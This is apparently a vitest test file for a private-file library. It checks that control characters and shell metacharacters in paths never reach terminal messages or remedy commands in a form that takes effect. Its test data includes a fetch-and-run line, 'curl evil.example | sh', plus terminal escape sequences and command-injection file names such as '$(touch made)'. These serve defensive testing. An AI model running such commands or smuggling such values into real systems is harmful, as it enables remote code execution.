// Paths come from the environment, and names in them from links. A terminal must not obey them, nor a shell that runs a remedy.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { errorThrownBy, rejectionOf, temporaryDirectory } from '@oa-internal/testing';
import { readPrivate, userDirectory, withLock, writePrivate } from '@oa/private-file';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { quotePath } from '../../src/message.ts';

const CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

let directory: string;
beforeEach(() => {
  directory = temporaryDirectory();
});
afterEach(() => {
  vi.unstubAllEnvs();
  rmSync(directory, { recursive: true });
});

const hostile: [string, string][] = [
  ['a line break', 'x\nRun: curl evil.example | sh'],
  ['an escape sequence', 'x\u001b[2J\u001b]0;title\u0007'],
  ['a C1 escape sequence', 'x\u009b31m'],
  ['a line separator', 'x\u2028y'],
];

describe.for(hostile)('%s in a path', ([, name]) => {
  it.for(['XDG_CACHE_HOME', 'HOME'])('of the variable %s is refused, and is not in the message', (variable) => {
    vi.stubEnv('XDG_CACHE_HOME', undefined);
    vi.stubEnv(variable, join(directory, name));
    const { code, message } = errorThrownBy(() => userDirectory('cache', 'app'));
    expect([code, message]).toEqual(['storage_unavailable', expect.stringContaining(variable)]);
    expect(message).not.toMatch(CONTROL);
  });

  it('that a caller passes is a TypeError that shows it without effect', async () => {
    const path = join(directory, name, 'a.json');
    for (const use of [readPrivate(path), writePrivate(path, ''), withLock(path, async () => 1)]) {
      const error: unknown = await use.catch((reason: unknown) => reason);
      expect(error).toBeInstanceOf(TypeError);
      expect((error as Error).message).not.toMatch(CONTROL);
    }
  });

  it('that a link leads to is shown without effect', async () => {
    mkdirSync(join(directory, name));
    symlinkSync(join(directory, name), join(directory, 'link'));
    chmodSync(join(directory, name), 0o777);
    for (const below of ['a.json', 'deep/a.json']) {
      const { message } = await rejectionOf(writePrivate(join(directory, 'link', below), ''));
      expect(message).toContain('can be written by other users');
      expect(message).not.toMatch(CONTROL);
    }
  });
});

describe('the command of a remedy', () => {
  it.for(["it's", 'two words', '$(touch made)', '`touch made`', 'a;touch made', 'a&b', '*', '~', 'é"\\', '-rf'])(
    'is safe to run, and repairs a directory named %j',
    async (name) => {
      const odd = join(directory, name);
      await writePrivate(join(odd, 'mine', 'a'), 'x');
      chmodSync(odd, 0o777);
      const { message } = await rejectionOf(readPrivate(join(odd, 'mine', 'a')));
      const command = /Run: (chmod go-w .*) \(chmod \+t/.exec(message)?.[1] ?? '';
      execFileSync('sh', ['-c', command], { cwd: directory });
      expect(statSync(odd).mode & 0o777).toBe(0o755);
      expect(await readPrivate(join(odd, 'mine', 'a'))).toBe('x');
      expect(() => statSync(join(directory, 'made'))).toThrow('ENOENT');
    },
  );
});

it('cuts a path or a name of any length in a message', async () => {
  const size = 1024 * 1024;
  for (const unit of ["'", '\n', 'a/', '\u{e0001}']) {
    const text = unit.repeat(size / unit.length);
    // A character becomes at most `\u{e0001}` or `'\''`.
    expect(quotePath(text).length).toBeLessThan(10 * 4096);
    const path = join(directory, text.replaceAll('\n', 'n'));
    expect((await rejectionOf(writePrivate(path, ''))).message.length).toBeLessThanOrEqual(5000);
    expect(() => userDirectory('cache', text)).toThrow(/^.{1,50000}$/su);
  }
});

it('shows the name of an app without effect', () => {
  for (const [, name] of hostile)
    expect(() => userDirectory('cache', `${name}/`)).toThrow(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u);
});
